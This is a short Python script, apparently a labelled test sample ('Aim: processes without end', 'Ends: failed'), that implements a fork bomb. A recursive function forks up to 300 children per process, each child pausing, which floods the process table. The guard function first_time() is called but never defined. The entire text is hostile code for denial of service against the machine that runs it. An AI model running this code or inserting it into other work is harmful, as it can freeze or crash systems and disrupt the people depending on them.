# Aim: processes without end.
# Ends: failed
import os, signal


def bomb():
    for _ in range(300):
        try:
            if os.fork() == 0:
                bomb()
        except OSError:
            pass
    signal.pause()


if first_time():
    try:
        if os.fork() == 0:
            bomb()
    except OSError:
        pass
